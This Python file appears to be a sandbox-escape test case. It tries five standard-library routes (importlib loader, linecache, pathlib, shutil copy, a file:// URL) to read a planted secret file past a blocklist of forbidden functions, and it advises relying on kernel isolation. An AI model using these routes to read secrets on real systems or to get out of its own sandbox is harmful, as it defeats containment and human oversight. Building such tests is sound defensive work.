# title: Read a file through other modules
# tries: Has modules of the standard library open a planted file in its place. Lists of forbidden functions tend to forget some of them.
# impact: HostLeak
# reference: CVE-2026-53710
# proof: secret
# host: run
# advice: Do not count on lists of forbidden functions; let the kernel keep the files away.


def by_loader(path):
    from importlib.machinery import SourceFileLoader

    return SourceFileLoader("any", path).get_data(path).decode()


def by_line_cache(path):
    import linecache

    return "".join(linecache.getlines(path))


def by_path(path):
    import pathlib

    return pathlib.Path(path).read_text()


def by_copy(path):
    import shutil
    import tempfile

    with tempfile.NamedTemporaryFile("r") as copy:
        shutil.copyfile(path, copy.name)
        return copy.read()


def by_url(path):
    import urllib.request

    with urllib.request.urlopen("file://" + path) as answer:
        return answer.read().decode()


def attempt(host):
    failure = None
    for way in (by_loader, by_line_cache, by_path, by_copy, by_url):
        try:
            text = way(host["secret_file"])
            if text:
                return text
        except Exception as error:
            failure = failure or error
    raise failure
